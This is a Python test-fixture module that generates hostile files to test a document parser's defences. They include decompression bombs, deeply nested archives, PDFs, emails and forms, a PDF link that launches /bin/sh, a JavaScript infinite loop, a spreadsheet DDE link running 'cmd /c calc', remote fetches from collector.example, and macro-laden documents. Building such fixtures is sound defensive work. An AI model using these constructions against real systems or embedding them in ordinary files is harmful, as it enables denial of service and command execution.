"""Files that ask for too much of one thing, reach outside themselves, or hide one file in another."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests.hostile.kind import Kind
from tests.hostile.office import NAMES, SHEET, archive, para, row, shape, slides, with_macros, word, workbook
from tests.hostile.other_kinds import mail
from tests.hostile.raw_pdf import pdf, stream, typed

PICTURE = b"595 0 0 842 0 0 cm /I Do"
ON_PAGE = b"/Resources << /XObject << /I 6 0 R >> >>"


def _jpeg_that_says(side: int) -> bytes:
    """A small photograph whose header says that it is as wide and high as this."""
    out = io.BytesIO()
    Image.new("L", (16, 16)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = side.to_bytes(2, "big") * 2
    return bytes(data)


def _png_bomb() -> bytes:
    """Thirty thousand lines of as many dots, packed to almost nothing; made line by line, so that its maker needs no memory."""
    packer, side = zlib.compressobj(9), 30_000
    body = b"".join(packer.compress(bytes(1 + side // 8)) for _ in range(side)) + packer.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _pages_of_tiff() -> bytes:
    out = io.BytesIO()
    pages = [Image.new("L", (60, 60), 255) for _ in range(200)]
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    return out.getvalue()


def _zip_in_zip(depth: int) -> bytes:
    inner = archive({"plan.txt": "The plan was agreed."})
    for _ in range(depth):
        inner = archive({"more.zip": inner})
    return inner


def _zip_of_itself_often() -> bytes:
    """A hundred files of ten megabytes of nothing, packed to almost nothing."""
    with io.BytesIO() as out:
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
            for number in range(100):
                made.writestr(f"{number}.txt", b" " * 10_000_000)
        return out.getvalue()


def _form_in_form(depth: int) -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
    deep = {number: stream(b"/X Do /X Do", form % (number + 1)) for number in range(6, 6 + depth)}
    end = {
        6 + depth: stream(
            typed("Deep."), b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
        )
    }
    return pdf(b"/X Do", page=b"/Resources << /XObject << /X 6 0 R >> >>", objects={**deep, **end})


LINK = f'<externalLink {SHEET}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
KINDS: dict[str, Callable[[], bytes]] = {
    "photograph-65500-wide.pdf": lambda: pdf(PICTURE, page=ON_PAGE, objects={6: stream(
        _jpeg_that_says(65_500), b"/Type /XObject /Subtype /Image /Width 65500 /Height 65500 /BitsPerComponent 8 /ColorSpace /DeviceGray "
        b"/Filter /DCTDecode")}),
    "photograph-65500-wide.jpg": lambda: _jpeg_that_says(65_500),
    "picture-of-900-million-dots.png": _png_bomb,
    "200-pages.tif": _pages_of_tiff,
    "zip-in-zip-100-deep.zip": lambda: _zip_in_zip(100),
    "gigabyte.zip": _zip_of_itself_often,
    "forms-doubling-25-deep.pdf": lambda: _form_in_form(25),
    "starts-a-program-from-a-link.pdf": lambda: pdf(page=b"/Annots [6 0 R]", objects={
        6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (/bin/sh) >> >>"}),
    "script-in-a-field.pdf": lambda: pdf(page=b"/Annots [6 0 R]", root=b"/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>", objects={
        6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (x) /Rect [0 0 9 9] /AA << /C << /S /JavaScript /JS (while(1){}) >> >> >>"}),
    "dde-link.xlsx": lambda: workbook(row(1, "x"), parts={"xl/externalLinks/externalLink1.xml": LINK}),
    "link-to-a-share.xlsx": lambda: workbook(row(1, "x"), ("e", "externalLinkPath", "file://collector.example/share/x.xlsx")),
    "query-of-the-web.xlsx": lambda: workbook(row(1, "x"), parts={
        "xl/connections.xml": f'<connections {SHEET}><connection id="1" type="4"><webPr url="http://collector.example/"/></connection></connections>'}),
    "macro-sheet.xlsm": lambda: with_macros(workbook(row(1, "x")), "xl"),
    "program-inside.docm": lambda: with_macros(word(para("A plan.")), "word"),
    "chunk-from-the-network.docx": lambda: word(para("A plan.") + '<w:altChunk r:id="c"/>', ("c", "aFChunk", "http://collector.example/c.html")),
    "objects-20000.docx": lambda: word(para("A plan.") + '<w:p><w:r><w:object><o:OLEObject r:id="o"/></w:object></w:r></w:p>' * 20_000),
    "comments-50000.docx": lambda: word(para("A plan."), ("x", "comments", "comments.xml"), parts={
        "word/comments.xml": f"<w:comments {NAMES}>"
        + "".join(f'<w:comment w:id="{n}">{para("x")}</w:comment>' for n in range(50_000)) + "</w:comments>"}),
    "one-paragraph-of-200000-runs.docx": lambda: word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 200_000 + "</w:p>"),
    "sheets-1900.xlsx": lambda: workbook(row(1, "x"), sheets="".join(
        f'<sheet name="S{n}" sheetId="{n + 2}" r:id="rId1"/>' for n in range(1900))),
    "merged-50000-times.xlsx": lambda: workbook(row(1, "x", "y"), extra="<mergeCells>" + "".join(
        f'<mergeCell ref="A{n}:B{n}"/>' for n in range(2, 50_002)) + "</mergeCells>"),
    "shapes-20000.pptx": lambda: slides(shape("A plan.") * 20_000),
    "table-of-a-million-cells.pptx": lambda: slides(
        "<p:graphicFrame><a:graphic><a:graphicData uri='x/table'><a:tbl>" + ("<a:tr>" + "<a:tc/>" * 1000 + "</a:tr>") * 300
        + "</a:tbl></a:graphicData></a:graphic></p:graphicFrame>"),
    "one-line-of-digits.txt": lambda: b"1" * 5_000_000,
    "one-line-of-names.txt": lambda: b"Ann Bee Cee Dee, aged 5, " * 200_000,
    "letters-50-deep.eml": lambda: _letters(50),
    "subject-turned-round.eml": lambda: mail("Subject: \u202egnitteem\u202c".encode(), b"A plan."),
}  # fmt: skip


def _letters(depth: int) -> bytes:
    inner = b"From: a@vale.example\r\nTo: b@vale.example\r\nSubject: x\r\n\r\nThe plan was agreed."
    for number in range(depth):
        edge = b"b%d" % number
        inner = mail(b"Content-Type: multipart/mixed; boundary=" + edge,
                     b"--%s\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n--%s--" % (edge, inner, edge))  # fmt: skip
    return inner


def kinds() -> list[Kind]:
    """Each of them."""
    quick = ("deep", "link", "program", "script", "query", "macro", "chunk", "turned", "jpg", "tif", "dde")
    return [Kind(f"many-{name}", make, slow=not any(word in name for word in quick)) for name, make in KINDS.items()]
